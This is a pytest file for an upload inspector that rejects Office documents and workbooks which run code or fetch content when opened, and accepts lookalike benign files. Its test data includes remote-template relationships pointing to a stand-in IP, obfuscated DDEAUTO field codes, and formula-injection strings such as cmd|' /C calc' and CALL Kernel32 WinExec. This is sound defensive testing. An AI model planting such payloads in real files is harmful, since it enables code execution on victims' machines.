"""An Office file that acts when it is opened is refused however it is written; plain ones are taken."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from evalcase.uploads import UploadRejected, inspect_upload
from tests.factories import papers
from tests.platform.tree import ROOT

pytestmark = pytest.mark.slow

MEGABYTE = 1024 * 1024
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
RELATIONS = "word/_rels/document.xml.rels"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 80
FORMULA = "<worksheet><sheetData><row r='1'><c r='A1'><f>%s</f><v>1</v></c></row></sheetData></worksheet>"


def relations(target: str, kind: str = "attachedTemplate", prefix: str = "") -> bytes:
    tag, space = (f"{prefix}:", f":{prefix}") if prefix else ("", "")
    inner = f'<{tag}Relationship Id="r" Type="{OFFICE}{kind}" {target}/>'
    return f'<{tag}Relationships xmlns{space}="{PACKAGE}">{inner}</{tag}Relationships>'.encode()


def refusal(data: bytes, name: str) -> str:
    with pytest.raises(UploadRejected) as caught:
        inspect_upload(data, name, "", max_bytes=20 * MEGABYTE)
    return str(caught.value)


def document_with(parts: dict[str, bytes]) -> bytes:
    return papers.altered(papers.document(), parts)


@pytest.mark.parametrize(
    "body",
    [
        relations('Target="http://192.0.2.1/x.dotm" TargetMode = "External"'),
        relations('Target="http://192.0.2.1/x>.dotm" TargetMode="External"'),
        relations('Target="http://192.0.2.1/x.dotm" TargetMode="Exter&#110;al"'),
        relations('Target="http://192.0.2.1/hyperlink/x.dotm" TargetMode="External"'),
        relations('Target="http://192.0.2.1/x.dotm" TargetMode="External"', prefix="a-b"),
        relations('Target="http://192.0.2.1/x.dotm" TargetMode="External"', prefix="表"),
        b" " * 100 + relations('Target="http://192.0.2.1/x.dotm" TargetMode="External"'),
    ],
)
def test_no_way_of_writing_hides_what_is_fetched(body: bytes) -> None:
    assert "从外部取模板" in refusal(document_with({RELATIONS: body}), "办法.docx")


@pytest.mark.parametrize(
    ("kind", "found"),
    [
        ("aFChunk", "并入的网页"),
        ("oleObject", "嵌入对象"),
        ("control", "ActiveX"),
        ("connections", "外部数据连接"),
        ("xlMacrosheet", "宏工作表"),
        ("webextensiontaskpanes", "加载项"),
    ],
)
def test_a_part_is_what_it_is_related_as_wherever_it_lies(kind: str, found: str) -> None:
    assert found in refusal(document_with({RELATIONS: relations('Target="media/a.png"', kind)}), "办法.docx")


@pytest.mark.parametrize(
    ("parts", "found"),
    [
        ({"word/media/a.png": OLE}, "嵌入对象"),
        ({"word/media/a.png": papers.packed({"a.exe": b"MZ"})}, "夹带的压缩包"),
        ({"word/embeddings/a.xlsx": b"MZ\x90\x00" * 80}, "嵌入对象"),
        ({"word/embeddings/a.xlsx": b"a" * 80}, "嵌入的“a.xlsx”文件首尾夹带了其他内容"),
        (
            {"word/embeddings/a.xlsx": papers.altered(papers.workbook(), {"xl/vbaProject.bin": b"x"})},
            "嵌入的“a.xlsx”含有宏",
        ),
        ({"word/embeddings/a.docx": document_with({"word/embeddings/b.xlsx": papers.workbook()})}, "夹带的压缩包"),
    ],
)
def test_a_file_in_the_file_is_told_by_its_content(parts: dict[str, bytes], found: str) -> None:
    assert found in refusal(document_with(parts), "办法.docx")


@pytest.mark.parametrize(
    "body",
    [
        b'<x><instrText>ddeauto c:\\\\windows "x"</instrText></x>',
        b"<x><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\windows</w:instrText></x>",
        b"<x><w:instrText><![CDATA[DDEAUTO c]]></w:instrText></x>",
        b"<x><w:instrText>D<!-- -->DEAUTO c</w:instrText></x>",
        b"<x><a-b:fldSimple a-b:instr=' &#68;DE c:\\\\windows'/></x>",
        b"<x><w:fldChar/><w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText></x>",
        b"<x><a-b:ddeLink/></x>",
    ],
)
def test_no_way_of_writing_hides_a_field_that_starts_a_program(body: bytes) -> None:
    assert "DDE" in refusal(document_with({"word/footnotes.xml": body}), "办法.docx")


@pytest.mark.parametrize(
    "formula",
    [
        *("cmd|' /C calc'!A0", "cmd&#124;'/C calc'!A0", "<![CDATA['cmd'|'/C calc'!A0]]>", "1+MSEXCEL|'..\\x'!a"),
        *('_xlfn.WEBSERVICE("http://192.0.2.1/")', 'rtd ("a",,"b")', 'CALL("Kernel32","WinExec")'),
    ],
)
def test_a_formula_that_starts_or_fetches_is_refused(formula: str) -> None:
    body = (FORMULA % formula).encode()
    assert "DDE" in refusal(papers.altered(papers.workbook(), {"xl/worksheets/sheet1.xml": body}), "表.xlsx")


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (document_with({RELATIONS: relations('Target="https://a.cn/" TargetMode="External"', "hyperlink")}), "a.docx"),
        (document_with({"word/footnotes.xml": b"<x><t>DDE c:</t><instrText> PAGE </instrText></x>"}), "a.docx"),
        (document_with({"word/a.xml": b"<x><fldChar/><instrText>QUOTE 12</instrText><fldChar/></x>"}), "a.docx"),
        (
            papers.altered(
                papers.workbook(), {"xl/a.xml": (FORMULA % """A1&amp;"|"&amp;'甲|乙'!B1+CALLS(1)""").encode()}
            ),
            "a.xlsx",
        ),
        *((path.read_bytes(), path.name) for path in sorted(Path(ROOT / "fixtures/demo").rglob("*.xlsx"))[:3]),
    ],
)
def test_what_only_looks_like_it_is_taken(data: bytes, name: str) -> None:
    assert inspect_upload(data, name, "", max_bytes=20 * MEGABYTE).name == name


def test_blanks_without_end_take_no_time() -> None:
    """Quadratic once: 300,000 tabs took longer than the minute that a file has."""
    before = time.process_time()
    for blank in ("\n", "\t", "\t ", ",\t"):
        data = ("甲" + blank * 300_000 + "乙").encode()
        assert inspect_upload(data, "台账.txt", "", max_bytes=20 * MEGABYTE).kind.ending == "txt"
    assert time.process_time() - before < 20
